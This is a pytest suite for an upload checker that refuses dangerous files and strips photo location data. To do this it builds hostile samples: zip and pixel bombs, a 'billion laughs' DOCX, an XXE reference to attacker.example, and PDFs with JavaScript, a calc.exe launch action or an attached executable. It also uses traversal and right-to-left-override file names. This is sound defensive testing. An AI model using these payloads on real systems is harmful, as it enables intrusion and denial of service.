"""Uploaded files and text others read: every refusal, with small hostile files made here."""

import asyncio
import hashlib
import os
import subprocess
import sys
import time
import types
import zipfile
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from services.errors import DomainError
from services.files import content, documents, images, kinds, workers
from services.rules.dossier import FIELDS, clean_text, validate_field

SPEC = {spec.id: spec for spec in FIELDS["STAR"]}
GPS = {1: "N", 2: (23.0, 7.0, 30.0), 3: "E", 4: (113.0, 15.0, 51.0)}


def refused(code: str, data: bytes, name: str, **kwargs: object) -> DomainError:
    with pytest.raises(DomainError) as caught:
        content.check(data, name, **kwargs)  # type: ignore[arg-type]
    assert caught.value.code == code, caught.value
    return caught.value


# ---- files made for the tests --------------------------------------------------------------------


def pdf(build: object = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if callable(build):
        build(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def image(kind: str, size: tuple[int, int] = (64, 48), **save: object) -> bytes:
    picture = Image.new("RGB", size)
    width, height = size
    picture.putdata([(x * 3 % 256, y * 5 % 256, (x + y) % 256) for y in range(height) for x in range(width)])
    out = BytesIO()
    picture.save(out, kind, **save)
    return out.getvalue()


def exif_with_gps(orientation: int = 6) -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "PhoneMaker"
    exif[0x8825] = GPS
    return exif


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="%s"/></Types>'
)
DOCX_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCUMENT = b'<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body><w:p/></w:body></w:document>'


def docx(*extra: tuple[str, bytes], document: bytes = DOCUMENT, main_type: bytes = DOCX_MAIN) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES % main_type)
        archive.writestr("_rels/.rels", b'<?xml version="1.0"?><Relationships xmlns="urn:r"/>')
        archive.writestr("word/document.xml", document)
        for name, data in extra:
            archive.writestr(name, data)
    return out.getvalue()


# ---- recognised by content ------------------------------------------------------------------------


def test_the_four_accepted_kinds_are_recognised_by_content() -> None:
    for name, data, kind in [
        ("报告.pdf", pdf(), "pdf"),
        ("扫描.JPG", image("JPEG"), "jpeg"),
        ("扫描.png", image("PNG"), "png"),
        ("材料.docx", docx(), "docx"),
        ("no-extension", pdf(), "pdf"),
    ]:
        checked = content.check(data, name)
        assert checked.kind == kind and len(checked.sha256) == 64


def test_empty_oversized_and_unknown_content_are_refused() -> None:
    refused("file.empty", b"", "a.pdf")
    big = refused("file.too_large", b"%PDF-" + b"0" * kinds.MAX_BYTES, "a.pdf")
    assert big.params == {"max_mb": 20}
    kinds.refuse_oversized(kinds.MAX_BYTES)
    kinds.refuse_oversized(None)  # Telegram did not say: the bytes are checked after downloading
    with pytest.raises(DomainError, match="file.too_large"):
        kinds.refuse_oversized(kinds.MAX_BYTES + 1)
    refused("file.unsupported_type", b"GIF89a" + bytes(40), "animation.gif")
    refused("file.unsupported_type", b"MZ\x90\x00" + bytes(60), "setup.exe")
    plain_zip = BytesIO()
    with zipfile.ZipFile(plain_zip, "w") as archive:
        archive.writestr("a.txt", "hello")
    refused("file.unsupported_type", plain_zip.getvalue(), "archive.zip")


def test_a_name_that_claims_another_type_is_refused() -> None:
    fake_pdf = refused("file.not_what_name_says", b"just text, not a pdf", "report.pdf")
    assert fake_pdf.params == {"declared": "PDF"}
    fake_docx = refused("file.not_what_name_says", b"{\\rtf1 a renamed RTF}", "a.docx")
    assert fake_docx.params == {"declared": "DOCX"}
    assert refused("file.type_mismatch", pdf(), "letter.docx").params == {"declared": "docx", "actual": "PDF"}
    assert refused("file.type_mismatch", image("PNG"), "a.jpg").params == {"declared": "jpg", "actual": "PNG"}
    refused("file.type_mismatch", docx(), "macro.docm")
    refused("file.type_mismatch", pdf(), "invoice\u202efdp.exe")


def test_a_seal_scan_must_be_a_scan() -> None:
    error = refused("file.kind_not_accepted_here", docx(), "意见.docx", kinds=kinds.SCAN_KINDS)
    assert error.params == {"kinds": "PDF、JPEG、PNG"}


def test_damaged_files_are_refused_as_corrupt() -> None:
    assert refused("file.corrupt", image("PNG")[:-40], "cut.png").params == {"kind": "PNG"}
    refused("file.corrupt", image("JPEG")[:300], "cut.jpg")
    refused("file.corrupt", b"%PDF-1.7\n" + os.urandom(200), "noise.pdf")
    refused("file.corrupt", docx(document=b"<w:document><w:body>"), "unclosed.docx")
    assert refused("file.corrupt", docx()[:-60], "cut.docx").params == {"kind": "DOCX"}


# ---- decompression bombs ---------------------------------------------------------------------------


def test_a_small_png_declaring_100_megapixels_is_refused() -> None:
    out = BytesIO()
    Image.new("1", (10_000, 10_000)).save(out, "PNG")
    assert len(out.getvalue()) < 20_000
    assert refused("file.image_too_large", out.getvalue(), "tiny.png").params == {"max_mpx": 40}


def test_pillows_bomb_warning_is_a_refusal(monkeypatch: pytest.MonkeyPatch) -> None:
    """Pillow only warns between its limit and twice its limit; here the warning refuses."""
    monkeypatch.setattr(images, "MAX_PIXELS", 10**12)
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 2000)
    refused("file.image_too_large", image("PNG", (50, 50)), "warned.png")  # 2,500 px: a warning only
    refused("file.image_too_large", image("JPEG", (100, 100)), "errored.jpg")  # 10,000 px: Pillow's error


def test_a_docx_zip_bomb_is_refused_by_ratio_and_by_expanded_size(monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = docx(("word/media/padding.xml", b"<a>" + b" " * (30 * 1024 * 1024) + b"</a>"))
    assert len(bomb) < 100_000
    assert refused("file.docx_bomb", bomb, "bomb.docx").params == {"max_mb": 100, "ratio": 100}
    incompressible = docx(("word/media/photo.bin", os.urandom(300_000)))
    assert content.check(incompressible, "photo.docx").kind == "docx"
    monkeypatch.setattr(documents, "MAX_DOCX_EXPANDED", 200_000)
    refused("file.docx_bomb", incompressible, "photo.docx")


def test_a_docx_with_a_dtd_or_entities_is_refused() -> None:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>'
        b'<w:document xmlns:w="urn:w">&b;</w:document>'
    )
    refused("file.docx_dtd", docx(document=laughs), "laughs.docx")
    external = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><Relationships/>'
    refused("file.docx_dtd", docx(("word/_rels/document.xml.rels", external)), "xxe.docx")


def test_a_docx_with_macros_is_refused() -> None:
    refused("file.docx_macros", docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")), "macro.docx")
    macro_enabled = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    refused("file.docx_macros", docx(main_type=macro_enabled), "renamed-docm.docx")
    refused("file.docx_macros", docx(("word/activeX/activeX1.bin", b"x")), "activex.docx")
    refused("file.docx_macros", docx(("word/embeddings/oleObject1.bin", b"x")), "ole.docx")


# ---- PDF active content and encryption ------------------------------------------------------------------


def test_a_pdf_with_javascript_is_refused() -> None:
    refused("file.pdf_active", pdf(lambda w: w.add_open_action(JavaScript("app.alert('hi')"))), "js.pdf")


def test_pdf_launch_actions_and_embedded_files_are_refused() -> None:
    def launch(writer: PdfWriter) -> None:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    def page_action(writer: PdfWriter) -> None:
        writer.pages[0][NameObject("/AA")] = DictionaryObject()

    refused("file.pdf_active", pdf(launch), "launch.pdf")
    refused("file.pdf_active", pdf(page_action), "aa.pdf")
    refused("file.pdf_active", pdf(lambda w: w.add_attachment("payload.exe", b"MZ")), "attached.pdf")


def test_javascript_behind_escaped_names_is_found_by_parsing() -> None:
    """/J#53 is /JS and /Java#53cript is /JavaScript: invisible to a byte search, not to the parser."""
    body = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R"
        b"/MediaBox[0 0 9 9]>>endobj\n4 0 obj<</S/Java#53cript/J#53(app.alert(1))>>endobj\n"
        b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
    )
    assert b"/JS" not in body and b"/JavaScript" not in body
    refused("file.pdf_active", body, "escaped.pdf")


def test_an_encrypted_pdf_is_refused() -> None:
    refused("file.pdf_encrypted", pdf(lambda w: w.encrypt("secret")), "locked.pdf")
    refused("file.pdf_encrypted", pdf(lambda w: w.encrypt("", "owner-only")), "no-copy.pdf")


def test_a_plain_pdf_that_opens_at_a_page_is_kept() -> None:
    def open_at_page(writer: PdfWriter) -> None:
        writer.open_destination = writer.pages[0]  # an /OpenAction that only goes to a page

    assert content.check(pdf(open_at_page), "plain.pdf").kind == "pdf"


# ---- EXIF location is gone before the file is stored --------------------------------------------------


def test_gps_location_is_stripped_from_a_jpeg_and_the_picture_is_unchanged() -> None:
    original = image("JPEG", exif=exif_with_gps())
    assert Image.open(BytesIO(original)).getexif().get_ifd(0x8825) == GPS
    kept = content.check(original, "现场照片.jpg")
    with Image.open(BytesIO(kept.data)) as cleaned, Image.open(BytesIO(original)) as before:
        exif = cleaned.getexif()
        assert exif.get_ifd(0x8825) == {} and 0x8825 not in exif and 0x010F not in exif
        assert exif.get(0x0112) == 6  # still shown the right way up
        assert cleaned.tobytes() == before.tobytes()  # the same compressed pixels, not re-encoded
    assert b"PhoneMaker" not in kept.data
    assert kept.sha256 == hashlib.sha256(kept.data).hexdigest() != hashlib.sha256(original).hexdigest()


def test_data_appended_after_a_jpeg_is_dropped() -> None:
    original = image("JPEG", exif=exif_with_gps())
    kept = content.check(original + b"PK\x03\x04 a zip hiding behind the picture", "polyglot.jpg")
    assert kept.data.endswith(b"\xff\xd9") and b"PK\x03\x04" not in kept.data


def test_progressive_jpeg_survives_stripping() -> None:
    original = image("JPEG", (120, 80), progressive=True, exif=exif_with_gps(orientation=1))
    kept = content.check(original, "p.jpg")
    with Image.open(BytesIO(kept.data)) as cleaned, Image.open(BytesIO(original)) as before:
        assert cleaned.tobytes() == before.tobytes() and dict(cleaned.getexif()) == {}


def test_exif_and_text_chunks_are_stripped_from_a_png() -> None:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "taken at home")
    original = image("PNG", exif=exif_with_gps(), pnginfo=info)
    assert Image.open(BytesIO(original)).getexif().get_ifd(0x8825) == GPS
    kept = content.check(original, "scan.png")
    with Image.open(BytesIO(kept.data)) as cleaned, Image.open(BytesIO(original)) as before:
        assert dict(cleaned.getexif()) == {} and "Comment" not in cleaned.info
        assert cleaned.tobytes() == before.tobytes()


# ---- display names ----------------------------------------------------------------------------------


def test_display_names_are_sanitised() -> None:
    assert kinds.safe_name("../../etc/passwd.pdf", "pdf") == "passwd.pdf"
    assert kinds.safe_name("C:\\Users\\张伟\\报告.PDF", "pdf") == "报告.pdf"
    assert kinds.safe_name("invoice\u202efdp.exe", "pdf") == "invoicefdp.pdf"  # no right-to-left trick
    assert kinds.safe_name("测\u200b评\ufeff报\u2066告.pdf", "pdf") == "测评报告.pdf"
    assert kinds.safe_name("a<i>&b\x00.png", "png") == "a_i__b.png"
    assert kinds.safe_name("..", "jpeg") == "file.jpg"
    assert kinds.safe_name("长" * 200 + ".docx", "docx") == "长" * 80 + ".docx"
    assert content.check(pdf(), "dir/sub/\u202e报告.pdf").safe_name == "报告.pdf"


# ---- text others will read -------------------------------------------------------------------------


def test_invisible_characters_are_refused_not_dropped() -> None:
    for sneaky in [
        "张\u202e伟",
        "张\u200b伟",
        "张\u200d伟",
        "\ufeff张伟",
        "张\u2066伟\u2069",
        "张\u061c伟",
        "张\x07伟",
        "张\x85伟",
        "张\u00ad伟",
        "张\u3164伟",
        "张\ue000伟",
        "张伟\x1c",
        "\u200b张伟 ",
    ]:
        with pytest.raises(DomainError) as caught:
            clean_text(sneaky, 50)
        assert caught.value.code == "dossier.invisible_characters", repr(sneaky)
    with pytest.raises(DomainError) as caught:
        validate_field(SPEC["name"], "李\u202e娜")
    assert caught.value.params == {"position": 2, "codepoint": "U+202E"}


def test_line_breaks_only_in_long_texts() -> None:
    opinion = "该同志服务成绩突出。\n同意推荐。"
    assert clean_text(opinion, 2000) == opinion
    for short in ["张\n伟", "张\r伟"]:
        with pytest.raises(DomainError, match="dossier.invisible_characters"):
            clean_text(short, 50)
    with pytest.raises(DomainError, match="dossier.invisible_characters"):
        clean_text("同意\r\n推荐", 2000)  # a carriage return is a control even in a long text
    with pytest.raises(DomainError, match="dossier.invisible_characters"):
        clean_text("同意\u2028推荐", 2000)


def test_digits_are_normalised_and_chinese_punctuation_kept() -> None:
    assert clean_text("广州市天河区１２３号（东门），二楼", 200) == "广州市天河区123号（东门），二楼"
    assert validate_field(SPEC["phone"], "１３８ ００１３ ８０００") == "+8613800138000"
    assert validate_field(SPEC["years_front_line"], "１２") == 12
    assert (
        validate_field(FIELDS["ENTERPRISE"][1], "９１３５０１００Ｍ０００１００Ｙ４３")
        == "91350100M000100Y43"
    )


# ---- checks in a worker process, with limits ------------------------------------------------------------


def loaded_modules() -> list[str]:
    return sorted(sys.modules)


def hang() -> None:
    time.sleep(60)


def swell() -> bytes:
    return bytes(2 * 1024**3)


def die() -> None:
    os._exit(3)


def nap(seconds: float) -> float:
    time.sleep(seconds)
    return seconds


def wait_for(path: str) -> str:
    while not Path(path).exists():
        time.sleep(0.02)
    return "done"


@pytest.fixture(scope="module")
def inspector() -> Iterator[workers.Inspector]:
    pool = workers.Inspector(workers=2, timeout=20, memory_bytes=512 * 1024 * 1024)
    yield pool
    pool.close()


async def test_a_check_in_the_worker_gives_the_same_result(inspector: workers.Inspector) -> None:
    original = image("JPEG", exif=exif_with_gps())
    kept = await inspector.check(original, "照片.jpg")
    assert kept == content.check(original, "照片.jpg")
    with pytest.raises(DomainError) as caught:
        await inspector.check(pdf(), "letter.docx")
    assert caught.value.code == "file.type_mismatch"
    assert caught.value.params == {"declared": "docx", "actual": "PDF"}  # parameters survive the trip back
    modules = await inspector.run(loaded_modules)
    assert "services.files" in modules and "aiogram" not in modules


async def test_a_check_that_runs_too_long_is_refused_and_the_pool_goes_on(
    inspector: workers.Inspector, tmp_path: Path
) -> None:
    flag = tmp_path / "go"
    bystander = asyncio.create_task(inspector.run(wait_for, str(flag)))  # another person's check
    await asyncio.sleep(0.2)
    with pytest.raises(DomainError) as caught:
        await inspector.run(hang, timeout=1.0)
    assert (caught.value.code, caught.value.params) == ("file.check_timeout", {"seconds": 1})
    flag.touch()
    assert await bystander == "done"  # its worker was killed with the pool: it ran again
    assert (await inspector.check(pdf(), "after.pdf")).kind == "pdf"


async def test_workers_do_not_run_the_main_script(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Started by a script (the `servicestar` entry point), workers must not import it again: it
    would bring aiogram and the whole bot into every worker."""
    marker = tmp_path / "main-ran"
    script = tmp_path / "entry.py"
    script.write_text(f"open({str(marker)!r}, 'w').close()\n")
    main = types.ModuleType("__main__")
    main.__file__, main.__spec__ = str(script), None
    monkeypatch.setitem(sys.modules, "__main__", main)
    fresh = workers.Inspector(workers=1)
    try:
        assert "services.files" in await fresh.run(loaded_modules)
    finally:
        fresh.close()
    assert not marker.exists() and sys.modules["__main__"].__file__ == str(script)


ORPHAN_SCRIPT = """
import asyncio, os, sys, time
from services.files import workers

async def main():
    inspector = workers.Inspector(workers=1)
    print(await inspector.run(os.getpid), await inspector.run(os.getppid), flush=True)
    time.sleep(60)

if __name__ == "__main__":
    asyncio.run(main())
"""


def running(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state != "Z"


def test_workers_leave_when_the_bot_is_killed(tmp_path: Path) -> None:
    script = tmp_path / "bot.py"
    script.write_text(ORPHAN_SCRIPT)
    root = Path(__file__).resolve().parents[2]
    bot = subprocess.Popen(
        [sys.executable, str(script)],
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(root)},
    )
    try:
        worker, server = map(int, (bot.stdout.readline() if bot.stdout else "0 0").split())
        assert running(worker) and running(server)
    finally:
        bot.kill()  # SIGKILL: no atexit, no pool shutdown
        bot.wait()
        if bot.stdout:
            bot.stdout.close()
    deadline = time.monotonic() + 10
    while (running(worker) or running(server)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not running(worker) and not running(server)  # the worker and the fork server it came from


async def test_the_time_limit_counts_checking_not_waiting_for_a_worker() -> None:
    """An album: more files than workers. Each waits for a free worker before its clock starts."""
    single = workers.Inspector(workers=1, timeout=1.6)
    try:
        await single.run(loaded_modules)  # the worker is up
        assert await asyncio.gather(single.run(nap, 1.0), single.run(nap, 1.0)) == [1.0, 1.0]
    finally:
        single.close()


async def test_a_check_that_swells_or_kills_its_worker_is_refused(inspector: workers.Inspector) -> None:
    with pytest.raises(DomainError, match="file.check_failed"):
        await inspector.run(swell)
    with pytest.raises(DomainError, match="file.check_failed"):
        await inspector.run(die)
    assert (await inspector.check(image("PNG"), "after.png")).kind == "png"


async def test_the_default_entry_point_refuses_cheap_cases_without_a_worker() -> None:
    with pytest.raises(DomainError, match="file.empty"):
        await workers.check_safely(b"", "a.pdf")
    with pytest.raises(DomainError, match="file.too_large"):
        await workers.check_safely(b"0" * (kinds.MAX_BYTES + 1), "a.pdf")
